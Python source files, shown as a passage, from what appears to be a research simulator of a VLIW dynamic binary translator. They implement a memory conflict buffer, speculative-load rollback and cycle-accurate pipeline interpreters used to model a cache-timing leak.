        bundle was cut short by a trace exit)."""
        for position, entry in enumerate(self._entries):
            if entry.tag == tag:
                del self._entries[position]
                return True
        return False

    def check_store(self, address: int, width: int) -> Optional[McbConflict]:
        """Compare a store against all tracked speculative loads."""
        for entry in self._entries:
            if entry.overlaps(address, width):
                self.conflicts += 1
                return McbConflict(store_address=address, store_width=width, entry=entry)
        return None

    def clear(self) -> None:
        """Drop all entries (block commit or rollback)."""
        self._entries.clear()

    def entries(self) -> List[McbEntry]:
        """Snapshot of tracked entries (diagnostics)."""
        return list(self._entries)
