"""In-order VLIW pipeline with scoreboarded loads and MCB rollback.

Timing model (bundle-level, cycle-accurate in the sense the paper needs):

* one bundle issues per cycle, in program (schedule) order;
* results become *ready* after the unit latency — loads after the cache
  hit/miss latency — and a bundle **stalls at issue** until every source
  register of every op in it is ready (classic in-order scoreboard);
* loads are therefore non-blocking: hoisting a load away from its first
  use hides its latency, which is exactly the performance the DBT's
  speculation buys and the "No speculation" configuration loses;
* ``rdcycle`` (and ``fence``) are serialising: they wait for all pending
  results, so the guest's timed cache probes measure true load latency;
* a taken trace side-exit costs ``exit_penalty`` cycles (redirect);
* an MCB conflict costs ``rollback_penalty`` cycles, undoes this block's
  stores and register writes, then runs the block's recovery variant —
  while the data cache keeps every line speculation touched (the leak).

Three host tiers implement this model:

* ``_run_fast`` (the default) executes the pre-decoded
  :class:`~repro.vliw.fastpath.FinalizedBlock` form — flat tuples, an
  integer-ordinal dispatch table, hoisted locals — several times faster
  on the host;
* the **compiled** tier (``core.use_compiled``, see
  :mod:`repro.vliw.codegen`) runs each block through a specialized
  straight-line host function generated from its finalized form;
* ``_run_reference`` is the original per-``VliwOp`` interpreter, kept
  verbatim as the semantic reference.

All must be **bit-identical** in every observable (cycles, stalls,
rollbacks, architectural state, attack outcomes); the differential test
in ``tests/platform/test_fastpath_differential.py`` enforces it.  Select
with ``REPRO_INTERP={fast,compiled,reference}`` or the corresponding
``DbtSystem(interpreter=...)`` argument.
"""

from __future__ import annotations

import enum
import os
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from ..interp.alu import apply as alu_apply
from ..interp.state import MASK64, to_signed
from ..mem.hierarchy import DataMemorySystem
from ..obs.observer import Observer
from .block import TranslatedBlock
from .config import VliwConfig
from .fastpath import FinalizedBlock, finalize_block
from .isa import Condition, VliwOp, VliwOpcode
from .mcb import MemoryConflictBuffer
from .regfile import VliwRegisterFile


class VliwExecutionError(Exception):
    """Raised on malformed translated code or machine misuse."""


class MegablockCorruptError(VliwExecutionError):
    """A compiled megablock (tier-4 trace) failed its integrity check.

    Raised *before* any architectural state is touched, so the dispatcher
    can retire the trace and re-dispatch the same record down the
    per-block tiers without a rollback.
    """


class BlockExecutionFault(Exception):
    """A guarded block execution failed and was rolled back.

    Raised only when ``core.guard_faults`` is set (the resilience
    supervisor's mode): the architectural state — registers, memory,
    cycle/instret counters, scoreboard, statistics — has been restored
    to the block entry, so the supervisor can retry the block down its
    degradation ladder.  ``cause`` is the original error.
    """

    def __init__(self, entry: int, cause: BaseException):
        super().__init__("block %#x faulted: %s" % (entry, cause))
        self.entry = entry
        self.cause = cause


class ExitReason(enum.Enum):
    """Why a translated block returned control to the platform."""

    BRANCH = "branch"      # taken side exit
    JUMP = "jump"          # unconditional direct exit
    INDIRECT = "indirect"  # jumpr (ret / indirect call)
    SYSCALL = "syscall"    # ecall reached; platform must service it


@dataclass
class BlockResult:
    """Outcome of executing one translated block."""

    next_pc: int
    reason: ExitReason
    cycles: int
    rolled_back: bool = False
    #: Guest instructions attributed to this execution (approximate for
    #: side exits; used for statistics only).
    guest_instructions: int = 0


@dataclass
class CoreStats:
    """Lifetime counters of the core."""

    bundles: int = 0
    ops: int = 0
    stall_cycles: int = 0
    exits_taken: int = 0
    rollbacks: int = 0
    blocks_executed: int = 0

    def reset(self) -> None:
        self.bundles = 0
        self.ops = 0
        self.stall_cycles = 0
        self.exits_taken = 0
        self.rollbacks = 0
        self.blocks_executed = 0


@dataclass(frozen=True, slots=True)
class TraceEvent:
    """One recorded pipeline event (when tracing is enabled)."""

    cycle: int
    kind: str            # 'issue', 'exit', 'rollback', 'recovery'
    detail: str
    block_entry: int


class ExecutionTrace:
    """Bounded recorder of pipeline events.

    Attach via ``core.tracer = ExecutionTrace()``; every issued bundle,
    taken exit and rollback is recorded (up to ``limit`` events, then
    recording stops — traces are a debugging aid, not a profiler).

    ``saturated`` flips to True once the limit is reached; hot callers
    check it *before* formatting a detail string, so a full trace buffer
    stops costing anything beyond one attribute load.
    """

    __slots__ = ("limit", "events", "saturated")

    def __init__(self, limit: int = 10_000):
        self.limit = limit
        self.events: List[TraceEvent] = []
        #: True once the buffer is full and further records are dropped.
        self.saturated = limit <= 0

    def record(self, cycle: int, kind: str, detail: str, block_entry: int) -> None:
        if len(self.events) < self.limit:
            self.events.append(TraceEvent(cycle, kind, detail, block_entry))
            if len(self.events) >= self.limit:
                self.saturated = True
        else:
            self.saturated = True

    def render(self, limit: Optional[int] = None) -> str:
        rows = self.events if limit is None else self.events[:limit]
        return "\n".join(
            "%8d  %-8s  %s" % (event.cycle, event.kind, event.detail)
            for event in rows
        )


class _RollbackSignal(Exception):
    """Internal: MCB conflict (or overflow) during speculative execution."""


_CONDITION_EVAL: Dict[Condition, Callable[[int, int], bool]] = {
    Condition.EQ: lambda a, b: a == b,
    Condition.NE: lambda a, b: a != b,
    Condition.LT: lambda a, b: to_signed(a) < to_signed(b),
    Condition.GE: lambda a, b: to_signed(a) >= to_signed(b),
    Condition.LTU: lambda a, b: a < b,
    Condition.GEU: lambda a, b: a >= b,
}


def _default_use_fast_path() -> bool:
    """Interpreter selection: ``REPRO_INTERP=reference`` forces the seed
    interpreter (differential testing, baseline measurements)."""
    return os.environ.get("REPRO_INTERP", "fast") != "reference"


def _default_use_compiled() -> bool:
    """Tier-3 selection: ``REPRO_INTERP=compiled`` runs blocks through
    the per-block host code generator (:mod:`repro.vliw.codegen`)."""
    return os.environ.get("REPRO_INTERP", "fast") == "compiled"


class VliwCore:
    """The in-order VLIW execution engine."""

    def __init__(self, config: Optional[VliwConfig] = None,
                 memory: Optional[DataMemorySystem] = None):
        self.config = config or VliwConfig()
        self.memory = memory if memory is not None else DataMemorySystem(
            cache_config=self.config.cache,
        )
        self.regs = VliwRegisterFile(self.config.num_registers)
        self.mcb = MemoryConflictBuffer(self.config.mcb_entries)
        #: Global cycle counter, monotonically increasing across blocks;
        #: this is what the guest's ``rdcycle`` reads.
        self.cycle = 0
        #: Retired guest instructions (approximate on side exits).
        self.instret = 0
        self.stats = CoreStats()
        #: Optional :class:`ExecutionTrace` recording issued bundles,
        #: exits and rollbacks (None = tracing off, the default).
        self.tracer: Optional[ExecutionTrace] = None
        #: Optional :class:`~repro.obs.observer.Observer`; every hook is
        #: guarded by one ``is not None`` check and never touches
        #: ``self.cycle``, so the disabled path cannot perturb timing.
        self.observer: Optional[Observer] = None
        #: Which interpreter executes blocks (see module docstring).
        self.use_fast_path = _default_use_fast_path()
        #: Tier-3: execute blocks through their compiled specialized
        #: host functions (:mod:`repro.vliw.codegen`).  Implies the
        #: fast-path machinery stays available as the fallback tier.
        self.use_compiled = _default_use_compiled()
        #: Optional :class:`~repro.vliw.codegen.CodegenStats` fed by the
        #: compiled tier (set by the platform when it wires codegen).
        self.codegen_stats = None
        #: Guarded execution (set by the resilience supervisor): faults
        #: during a block roll all state back to the block entry and
        #: surface as :class:`BlockExecutionFault` instead of corrupting
        #: the run.  Off by default — the unguarded path is the seed
        #: code, byte for byte.
        self.guard_faults = False
        #: Scoreboard: physical register -> cycle its value is ready.
        self._ready: Dict[int, int] = {}
        #: Hoisted unit-latency table (shared dict on the frozen config).
        self._latencies = self.config.latencies

    # ------------------------------------------------------------------
    # Public execution API.
    # ------------------------------------------------------------------

    def execute_block(self, block: TranslatedBlock) -> BlockResult:
        """Execute one translated block to its exit, handling rollback."""
        if self.guard_faults:
            return self._execute_guarded(block)
        return self._execute(block)

    def _execute(self, block: TranslatedBlock,
                 entry_regs: Optional[List[int]] = None,
                 store_log: Optional[List[Tuple[int, bytes]]] = None) -> BlockResult:
        self.stats.blocks_executed += 1
        observer = self.observer
        start_cycle = self.cycle
        if entry_regs is None:
            entry_regs = self.regs.snapshot()
        if store_log is None:
            store_log = []
        try:
            result = self._run(block, store_log)
        except _RollbackSignal:
            self._undo(entry_regs, store_log)
            squashed_loads = len(self.mcb)
            self.mcb.clear()
            self.stats.rollbacks += 1
            self.cycle += self.config.rollback_penalty
            if self.tracer is not None and not self.tracer.saturated:
                self.tracer.record(
                    self.cycle, "rollback",
                    "MCB conflict in block %#x" % block.guest_entry,
                    block.guest_entry,
                )
            if observer is not None:
                observer.rollback(block.guest_entry,
                                  self.cycle - start_cycle, self.cycle,
                                  squashed_loads)
            recovery = block.recovery
            if recovery is None:
                raise VliwExecutionError(
                    "MCB conflict in block %#x with no recovery code"
                    % block.guest_entry
                )
            if self.guard_faults:
                # Keep logging into the (now replayed) store log so a
                # fault inside the recovery run can still be undone.
                del store_log[:]
                result = self._run(recovery, store_log)
            else:
                result = self._run(recovery, store_log=None)
            result.rolled_back = True
        self.mcb.clear()
        self.instret += result.guest_instructions
        if observer is not None:
            observer.block_executed(block, result, start_cycle, self.cycle)
        return result

    def _execute_guarded(self, block: TranslatedBlock) -> BlockResult:
        """Guarded execution: any failure restores every piece of state
        the block touched and re-raises as :class:`BlockExecutionFault`.

        The data cache's content (hit/miss state) is deliberately *not*
        restored — exactly like an MCB rollback, micro-architectural
        state survives; only architectural state and the timing counters
        are rewound.
        """
        stats = self.stats
        snapshot = (self.cycle, self.instret, stats.bundles, stats.ops,
                    stats.stall_cycles, stats.exits_taken, stats.rollbacks,
                    stats.blocks_executed)
        ready_snapshot = dict(self._ready)
        entry_regs = self.regs.snapshot()
        store_log: List[Tuple[int, bytes]] = []
        try:
            return self._execute(block, entry_regs, store_log)
        except BlockExecutionFault:
            raise
        except Exception as cause:
            self._undo(entry_regs, store_log)
            self.mcb.clear()
            (self.cycle, self.instret, stats.bundles, stats.ops,
             stats.stall_cycles, stats.exits_taken, stats.rollbacks,
             stats.blocks_executed) = snapshot
            self._ready = ready_snapshot
            raise BlockExecutionFault(block.guest_entry, cause) from cause

    # ------------------------------------------------------------------
    # Interpreter dispatch.
    # ------------------------------------------------------------------

    def _run(self, block: TranslatedBlock,
             store_log: Optional[List[Tuple[int, bytes]]]) -> BlockResult:
        if self.use_compiled:
            fblock = finalize_block(block, self.config)
            fn = fblock.compiled
            if fn is not None:
                return fn(self, store_log)
            # Tiering: blocks below the compile threshold (first-pass
            # translations) run on the fast interpreter — identical
            # observables, no compile cost for short-lived code.
            return self._run_fast(fblock, store_log)
        if self.use_fast_path:
            return self._run_fast(finalize_block(block, self.config), store_log)
        return self._run_reference(block, store_log)

    # ------------------------------------------------------------------
    # Fast path: executes the pre-decoded FinalizedBlock form.
    # ------------------------------------------------------------------

    def _run_fast(self, fblock: FinalizedBlock,
                  store_log: Optional[List[Tuple[int, bytes]]]) -> BlockResult:
        start_cycle = self.cycle
        cycle = start_cycle
        # Hoisted hot state.  ``regs_list`` is safe to cache: the register
        # file only rebinds ``_regs`` in ``restore()``, which the platform
        # never calls while a block is in flight.
        regs_list = self.regs._regs
        memory = self.memory
        cache_access = memory.cache.access
        mem_load_int = memory.memory.load_int
        mem_store_int = memory.memory.store_int
        mem_load_bytes = memory.memory.load_bytes
        flush_line = memory.flush_line
        mcb_record = self.mcb.record_load
        mcb_check = self.mcb.check_store
        mcb_release = self.mcb.release
        observer = self.observer
        tracer = self.tracer
        ready = self._ready
        ready_get = ready.get
        guest_entry = fblock.guest_entry
        exit_cost = self.config.exit_penalty + 1
        bundles_c = ops_c = stall_c = exits_c = 0
        exit_pc = 0
        exit_reason: Optional[ExitReason] = None
        exit_ginsts = 0
        try:
            for dops, reads, stall_sources, serialize, nops, bundle in fblock.bundles:
                # In-order issue: stall until every source is ready;
                # serializing bundles additionally drain the scoreboard.
                issue = cycle
                for src in stall_sources:
                    t = ready_get(src)
                    if t is not None and t > issue:
                        issue = t
                if serialize and ready:
                    t = max(ready.values())
                    if t > issue:
                        issue = t
                stall_c += issue - cycle
                bundles_c += 1
                ops_c += nops
                if tracer is not None and not tracer.saturated:
                    tracer.record(issue, "issue", bundle.describe(), guest_entry)

                # VLIW read phase: all sources sampled before any write.
                vals = [regs_list[r] for r in reads]

                base = 0
                for d in dops:
                    o = d[0]
                    v1 = vals[base]
                    v2 = vals[base + 1]
                    base += 2
                    if o == 0:  # ALU reg-reg
                        dest = d[2]
                        if dest:
                            regs_list[dest] = d[1](v1, v2) & MASK64
                            ready[dest] = issue + d[3]
                    elif o == 1:  # ALU reg-imm
                        dest = d[2]
                        if dest:
                            regs_list[dest] = d[1](v1, d[3]) & MASK64
                            ready[dest] = issue + d[4]
                    elif o == 2:  # LI
                        dest = d[1]
                        if dest:
                            regs_list[dest] = d[2]
                            ready[dest] = issue + d[3]
                    elif o == 3:  # MOV
                        dest = d[1]
                        if dest:
                            regs_list[dest] = v1
                            ready[dest] = issue + d[2]
                    elif o == 4:  # LOAD
                        address = (v1 + d[2]) & MASK64
                        width = d[3]
                        hit, latency = cache_access(address, width)
                        value = mem_load_int(address, width, d[4])
                        if observer is not None:
                            observer.load_access(address, hit, latency,
                                                 d[5], issue)
                        dest = d[1]
                        if dest:
                            regs_list[dest] = value & MASK64
                            ready[dest] = issue + latency
                        if d[5]:  # MCB-speculative
                            if not mcb_record(address, width, dest, d[7],
                                              tag=d[6]):
                                raise _RollbackSignal()
                    elif o == 5:  # STORE
                        address = (v1 + d[1]) & MASK64
                        width = d[2]
                        if mcb_check(address, width) is not None:
                            # Conflict: the speculative load was stale.
                            raise _RollbackSignal()
                        for tag in d[3]:
                            mcb_release(tag)
                        if store_log is not None:
                            store_log.append(
                                (address, mem_load_bytes(address, width)))
                        cache_access(address, width)
                        mem_store_int(address, v2, width)
                    elif o == 10:  # BRANCH
                        if d[1](v1, v2):
                            exits_c += 1
                            cycle = issue + exit_cost
                            exit_pc = d[2]
                            exit_reason = ExitReason.BRANCH
                            exit_ginsts = d[3]
                    elif o == 8:  # RDCYCLE
                        dest = d[1]
                        if dest:
                            regs_list[dest] = issue & MASK64
                            ready[dest] = issue + d[2]
                    elif o == 6:  # CFLUSH
                        address = (v1 + d[1]) & MASK64
                        flush_line(address)
                        if observer is not None:
                            observer.cflush(address, issue)
                    elif o == 11:  # JUMP
                        cycle = issue + 1
                        exit_pc = d[1]
                        exit_reason = ExitReason.JUMP
                        exit_ginsts = fblock.guest_length
                    elif o == 12:  # JUMPR
                        cycle = issue + exit_cost
                        exit_pc = (v1 + d[1]) & MASK64 & ~1
                        exit_reason = ExitReason.INDIRECT
                        exit_ginsts = fblock.guest_length
                    elif o == 13:  # SYSCALL
                        cycle = issue + 1
                        exit_pc = d[1]
                        exit_reason = ExitReason.SYSCALL
                        exit_ginsts = fblock.guest_length
                    elif o == 9:  # RDINSTRET
                        dest = d[1]
                        if dest:
                            regs_list[dest] = self.instret & MASK64
                            ready[dest] = issue + d[2]
                    elif o == 7:  # FENCE: serialisation handled at issue.
                        pass
                    else:  # pragma: no cover
                        raise VliwExecutionError(
                            "unhandled finalized ordinal: %r" % (o,))

                if exit_reason is not None:
                    return BlockResult(
                        next_pc=exit_pc,
                        reason=exit_reason,
                        cycles=cycle - start_cycle,
                        guest_instructions=exit_ginsts,
                    )
                cycle = issue + 1
        finally:
            # Commit hoisted state even when a rollback signal (or a
            # platform error) unwinds mid-block, exactly mirroring the
            # reference interpreter's incremental updates.
            self.cycle = cycle
            stats = self.stats
            stats.bundles += bundles_c
            stats.ops += ops_c
            stats.stall_cycles += stall_c
            stats.exits_taken += exits_c

        raise VliwExecutionError(
            "translated block %#x fell off the end without an exit"
            % fblock.guest_entry
        )

    # ------------------------------------------------------------------
    # Chained fast path: whole chains of linked blocks execute inside
    # one call, machine state hoisted once (see repro.dbt.chaining).
    # ------------------------------------------------------------------

    def execute_chain(self, record, ctx, blocks_executed: int):
        """Execute ``record``'s block and every chained successor.

        The block→block dispatch of :mod:`repro.dbt.chaining`, fused
        into the core: the hot machine state (registers, memory, MCB,
        scoreboard, cycle/instret) is hoisted into locals once and
        successive linked blocks run back-to-back; between blocks only
        the profiling seam runs — block count, branch outcome, the
        hotness trigger, budget checks and the successor lookup — with
        the exact semantics of the seed loop's
        ``execute_block`` + ``record_execution`` round trip.

        Preconditions (the dispatcher enforces them): fast path on, no
        observer, no tracer, ``guard_faults`` off, no supervisor.  The
        per-bundle body is the ``_run_fast`` interpreter verbatim; the
        differential tests gate bit-identity against the seed loop.

        Returns ``(result, break_reason, last_record, blocks_executed,
        dispatches)``; the caller applies the engine-visible follow-up
        (optimize / rollback notification) for ``hot``/``rollback``
        breaks.
        """
        regs = self.regs
        regs_list = regs._regs
        memory = self.memory
        cache_access = memory.cache.access
        mem_load_int = memory.memory.load_int
        mem_store_int = memory.memory.store_int
        mem_load_bytes = memory.memory.load_bytes
        flush_line = memory.flush_line
        mcb = self.mcb
        mcb_record = mcb.record_load
        mcb_check = mcb.check_store
        mcb_release = mcb.release
        mcb_clear = mcb.clear
        ready = self._ready
        ready_get = ready.get
        exit_cost = self.config.exit_penalty + 1
        stats = self.stats
        cycle = self.cycle
        instret = self.instret
        bundles_c = ops_c = stall_c = exits_c = blocks_c = 0

        out_map = ctx.out
        raw_blocks = ctx.raw_blocks
        block_counts = ctx.block_counts
        branches = ctx.branches
        new_branch_profile = ctx.branch_profile
        hot_threshold = ctx.hot_threshold
        max_optimizations = ctx.max_optimizations
        engine_stats = ctx.engine_stats
        max_blocks = ctx.max_blocks
        max_cycles = ctx.max_cycles
        lru = ctx.lru
        link_successor = ctx.link_successor

        syscall = ExitReason.SYSCALL
        branch_exit = ExitReason.BRANCH
        jump_exit = ExitReason.JUMP
        indirect_exit = ExitReason.INDIRECT
        dispatches = 0
        rolled_back = False
        result: Optional[BlockResult] = None
        try:
            while True:
                blocks_c += 1
                blocks_executed += 1
                dispatches += 1
                fblock = record.fblock
                entry = record.entry
                if record.can_rollback:
                    # Mirrors _execute's rollback provisions; blocks
                    # without MCB-speculative loads can never signal a
                    # rollback, so they skip the snapshot and store log.
                    entry_regs = regs_list[:]
                    store_log = []
                else:
                    entry_regs = None
                    store_log = None
                block_start = cycle
                exit_pc = 0
                exit_reason = None
                exit_ginsts = 0
                rolled_back = False
                try:
                    for (dops, reads, stall_sources, serialize, nops,
                         bundle) in fblock.bundles:
                        issue = cycle
                        for src in stall_sources:
                            t = ready_get(src)
                            if t is not None and t > issue:
                                issue = t
                        if serialize and ready:
                            t = max(ready.values())
                            if t > issue:
                                issue = t
                        stall_c += issue - cycle
                        bundles_c += 1
                        ops_c += nops

                        # VLIW read phase: sources sampled before writes.
                        vals = [regs_list[r] for r in reads]

                        base = 0
                        for d in dops:
                            o = d[0]
                            v1 = vals[base]
                            v2 = vals[base + 1]
                            base += 2
                            if o == 0:  # ALU reg-reg
                                dest = d[2]
                                if dest:
                                    regs_list[dest] = d[1](v1, v2) & MASK64
                                    ready[dest] = issue + d[3]
                            elif o == 1:  # ALU reg-imm
                                dest = d[2]
                                if dest:
                                    regs_list[dest] = d[1](v1, d[3]) & MASK64
                                    ready[dest] = issue + d[4]
                            elif o == 2:  # LI
                                dest = d[1]
                                if dest:
                                    regs_list[dest] = d[2]
                                    ready[dest] = issue + d[3]
                            elif o == 3:  # MOV
                                dest = d[1]
                                if dest:
                                    regs_list[dest] = v1
                                    ready[dest] = issue + d[2]
                            elif o == 4:  # LOAD
                                address = (v1 + d[2]) & MASK64
                                width = d[3]
                                hit, latency = cache_access(address, width)
                                value = mem_load_int(address, width, d[4])
                                dest = d[1]
                                if dest:
                                    regs_list[dest] = value & MASK64
                                    ready[dest] = issue + latency
                                if d[5]:  # MCB-speculative
                                    if not mcb_record(address, width, dest,
                                                      d[7], tag=d[6]):
                                        raise _RollbackSignal()
                            elif o == 5:  # STORE
                                address = (v1 + d[1]) & MASK64
                                width = d[2]
                                if mcb_check(address, width) is not None:
                                    raise _RollbackSignal()
                                for tag in d[3]:
                                    mcb_release(tag)
                                if store_log is not None:
                                    store_log.append(
                                        (address,
                                         mem_load_bytes(address, width)))
                                cache_access(address, width)
                                mem_store_int(address, v2, width)
                            elif o == 10:  # BRANCH
                                if d[1](v1, v2):
                                    exits_c += 1
                                    cycle = issue + exit_cost
                                    exit_pc = d[2]
                                    exit_reason = branch_exit
                                    exit_ginsts = d[3]
                            elif o == 8:  # RDCYCLE
                                dest = d[1]
                                if dest:
                                    regs_list[dest] = issue & MASK64
                                    ready[dest] = issue + d[2]
                            elif o == 6:  # CFLUSH
                                address = (v1 + d[1]) & MASK64
                                flush_line(address)
                            elif o == 11:  # JUMP
                                cycle = issue + 1
                                exit_pc = d[1]
                                exit_reason = jump_exit
                                exit_ginsts = fblock.guest_length
                            elif o == 12:  # JUMPR
                                cycle = issue + exit_cost
                                exit_pc = (v1 + d[1]) & MASK64 & ~1
                                exit_reason = indirect_exit
                                exit_ginsts = fblock.guest_length
                            elif o == 13:  # SYSCALL
                                cycle = issue + 1
                                exit_pc = d[1]
                                exit_reason = syscall
                                exit_ginsts = fblock.guest_length
                            elif o == 9:  # RDINSTRET
                                dest = d[1]
                                if dest:
                                    regs_list[dest] = instret & MASK64
                                    ready[dest] = issue + d[2]
                            elif o == 7:  # FENCE: serialised at issue.
                                pass
                            else:  # pragma: no cover
                                raise VliwExecutionError(
                                    "unhandled finalized ordinal: %r" % (o,))

                        if exit_reason is not None:
                            break
                        cycle = issue + 1
                    else:
                        raise VliwExecutionError(
                            "translated block %#x fell off the end without "
                            "an exit" % entry
                        )
                except _RollbackSignal:
                    # Commit the hoisted state (what _run_fast's finally
                    # does), then follow _execute's rollback path.
                    self.cycle = cycle
                    self.instret = instret
                    stats.bundles += bundles_c
                    stats.ops += ops_c
                    stats.stall_cycles += stall_c
                    stats.exits_taken += exits_c
                    stats.blocks_executed += blocks_c
                    bundles_c = ops_c = stall_c = exits_c = blocks_c = 0
                    self._undo(entry_regs, store_log)
                    mcb_clear()
                    stats.rollbacks += 1
                    self.cycle += self.config.rollback_penalty
                    recovery = record.block.recovery
                    if recovery is None:
                        raise VliwExecutionError(
                            "MCB conflict in block %#x with no recovery code"
                            % entry
                        )
                    result = self._run(recovery, None)
                    result.rolled_back = True
                    rolled_back = True
                    # _undo rebound the register list and the recovery
                    # run advanced the committed state; re-hoist.
                    regs_list = regs._regs
                    cycle = self.cycle
                    instret = self.instret
                    exit_pc = result.next_pc
                    exit_reason = result.reason
                    exit_ginsts = result.guest_instructions

                # --- the seam: _execute's epilogue + record_execution.
                mcb_clear()
                instret += exit_ginsts
                if lru:
                    current = raw_blocks.pop(entry, None)
                    if current is not None:
                        raw_blocks[entry] = current
                count = block_counts.get(entry, 0) + 1
                block_counts[entry] = count
                branch = record.branch
                if branch is not None and exit_reason is not syscall:
                    branch_profile = branches.get(branch[0])
                    if branch_profile is None:
                        branch_profile = new_branch_profile()
                        branches[branch[0]] = branch_profile
                    if exit_pc == branch[1]:
                        branch_profile.taken += 1
                    else:
                        branch_profile.not_taken += 1
                if (record.firstpass and count >= hot_threshold
                        and engine_stats.optimizations < max_optimizations):
                    reason = "hot"
                    break
                elif rolled_back:
                    reason = "rollback"
                    break
                if exit_reason is syscall:
                    reason = "syscall"
                    break
                if blocks_executed >= max_blocks or cycle >= max_cycles:
                    reason = "budget"
                    break
                successors = out_map.get(entry)
                nxt = (successors.get(exit_pc)
                       if successors is not None else None)
                if nxt is None:
                    successor_block = raw_blocks.get(exit_pc)
                    if successor_block is None:
                        reason = "miss"
                        break
                    nxt = link_successor(entry, exit_pc, successor_block)
                    if nxt.fblock is None:
                        nxt.fblock = finalize_block(nxt.block, self.config)
                record = nxt
        finally:
            self.cycle = cycle
            self.instret = instret
            stats.bundles += bundles_c
            stats.ops += ops_c
            stats.stall_cycles += stall_c
            stats.exits_taken += exits_c
            stats.blocks_executed += blocks_c

        if not rolled_back:
            result = BlockResult(
                next_pc=exit_pc,
                reason=exit_reason,
                cycles=cycle - block_start,
                guest_instructions=exit_ginsts,
            )
        return result, reason, record, blocks_executed, dispatches

    # ------------------------------------------------------------------
    # Reference interpreter (the seed implementation, kept verbatim as
    # the semantic baseline for the differential tests and benchmarks).
    # ------------------------------------------------------------------

    def _run_reference(self, block: TranslatedBlock,
                       store_log: Optional[List[Tuple[int, bytes]]]) -> BlockResult:
        start_cycle = self.cycle
        regs = self.regs
        memory = self.memory
        observer = self.observer
        stats = self.stats
        # The scoreboard persists across blocks: a load issued at the end
        # of one block still stalls its first use in the next.
        ready = self._ready

        for bundle in block.bundles:
            issue = self.cycle
            # In-order issue: stall until every source of every op is ready.
            for op in bundle:
                for src in op.sources():
                    if src != 0:
                        issue = max(issue, ready.get(src, issue))
                if op.opcode in (VliwOpcode.RDCYCLE, VliwOpcode.FENCE):
                    # Serialising: drain all pending results.
                    if ready:
                        issue = max(issue, max(ready.values()))
            stats.stall_cycles += issue - self.cycle
            stats.bundles += 1
            stats.ops += len(bundle)
            if self.tracer is not None and not self.tracer.saturated:
                self.tracer.record(
                    issue, "issue", bundle.describe(), block.guest_entry,
                )

            # VLIW read phase: all sources sampled before any write.
            source_values = [
                (regs.read(op.src1) if op.src1 is not None else 0,
                 regs.read(op.src2) if op.src2 is not None else 0)
                for op in bundle
            ]

            exit_result: Optional[BlockResult] = None
            for op, (value1, value2) in zip(bundle, source_values):
                opcode = op.opcode
                if opcode is VliwOpcode.ALU:
                    rhs = value2 if op.src2 is not None else op.imm & MASK64
                    regs.write(op.dest, alu_apply(op.alu_op, value1, rhs))
                    self._mark_ready(op, issue)
                elif opcode is VliwOpcode.LI:
                    regs.write(op.dest, op.imm & MASK64)
                    self._mark_ready(op, issue)
                elif opcode is VliwOpcode.MOV:
                    regs.write(op.dest, value1)
                    self._mark_ready(op, issue)
                elif opcode is VliwOpcode.LOAD:
                    address = (value1 + op.imm) & MASK64
                    access = memory.load(address, op.width, signed=op.signed)
                    if observer is not None:
                        observer.load_access(address, access.hit,
                                             access.latency, op.speculative,
                                             issue)
                    regs.write(op.dest, access.value & MASK64)
                    if op.dest and op.dest != 0:
                        ready[op.dest] = issue + access.latency
                    if op.speculative:
                        tracked = self.mcb.record_load(
                            address, op.width, op.dest, op.origin or 0,
                            tag=op.spec_tag,
                        )
                        if not tracked:
                            raise _RollbackSignal()
                elif opcode is VliwOpcode.STORE:
                    address = (value1 + op.imm) & MASK64
                    if self.mcb.check_store(address, op.width) is not None:
                        # Conflict: the speculatively loaded value was stale.
                        raise _RollbackSignal()
                    for tag in op.mcb_releases:
                        self.mcb.release(tag)
                    if store_log is not None:
                        store_log.append(
                            (address, memory.memory.load_bytes(address, op.width))
                        )
                    memory.store(address, value2, op.width)
                elif opcode is VliwOpcode.CFLUSH:
                    address = (value1 + op.imm) & MASK64
                    memory.flush_line(address)
                    if observer is not None:
                        observer.cflush(address, issue)
                elif opcode is VliwOpcode.FENCE:
                    pass  # Serialisation handled at issue.
                elif opcode is VliwOpcode.RDCYCLE:
                    regs.write(op.dest, issue & MASK64)
                    self._mark_ready(op, issue)
                elif opcode is VliwOpcode.RDINSTRET:
                    regs.write(op.dest, self.instret & MASK64)
                    self._mark_ready(op, issue)
                elif opcode is VliwOpcode.BRANCH:
                    if _CONDITION_EVAL[op.condition](value1, value2):
                        stats.exits_taken += 1
                        self.cycle = issue + 1 + self.config.exit_penalty
                        exit_result = BlockResult(
                            next_pc=op.target,
                            reason=ExitReason.BRANCH,
                            cycles=self.cycle - start_cycle,
                            guest_instructions=(op.origin or 0) + 1,
                        )
                elif opcode is VliwOpcode.JUMP:
                    self.cycle = issue + 1
                    exit_result = BlockResult(
                        next_pc=op.target,
                        reason=ExitReason.JUMP,
                        cycles=self.cycle - start_cycle,
                        guest_instructions=block.guest_length,
                    )
                elif opcode is VliwOpcode.JUMPR:
                    self.cycle = issue + 1 + self.config.exit_penalty
                    exit_result = BlockResult(
                        next_pc=(value1 + op.imm) & MASK64 & ~1,
                        reason=ExitReason.INDIRECT,
                        cycles=self.cycle - start_cycle,
                        guest_instructions=block.guest_length,
                    )
                elif opcode is VliwOpcode.SYSCALL:
                    self.cycle = issue + 1
                    exit_result = BlockResult(
                        next_pc=op.target if op.target is not None else 0,
                        reason=ExitReason.SYSCALL,
                        cycles=self.cycle - start_cycle,
                        guest_instructions=block.guest_length,
                    )
                else:  # pragma: no cover
                    raise VliwExecutionError("unhandled opcode: %r" % opcode)

            if exit_result is not None:
                return exit_result
            self.cycle = issue + 1

        raise VliwExecutionError(
            "translated block %#x fell off the end without an exit"
            % block.guest_entry
        )

    def _mark_ready(self, op: VliwOp, issue: int) -> None:
        dest = op.destination()
        if dest is not None:
            self._ready[dest] = issue + self._latencies[op.unit]

    # ------------------------------------------------------------------
    # Rollback.
    # ------------------------------------------------------------------

    def _undo(self, entry_regs: List[int], store_log: List[Tuple[int, bytes]]) -> None:
        """Restore architectural state; the cache is deliberately left
        touched (micro-architectural state survives rollback — the leak)."""
        self.regs.restore(entry_regs)
        for address, old_bytes in reversed(store_log):
            self.memory.memory.store_bytes(address, old_bytes)
