"""VLIW instruction bundles.

A bundle is the set of operations issued in one cycle.  Bundle legality
(which slot can hold which unit class) is checked against the machine
configuration at construction time, so that the scheduler cannot emit
code the core could not issue.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator, List, Optional, Sequence, Tuple

from .config import VliwConfig
from .isa import VliwOp


class BundleError(ValueError):
    """Raised when operations cannot legally share a bundle."""


@dataclass
class Bundle:
    """One issue group: at most one op per slot, capabilities respected."""

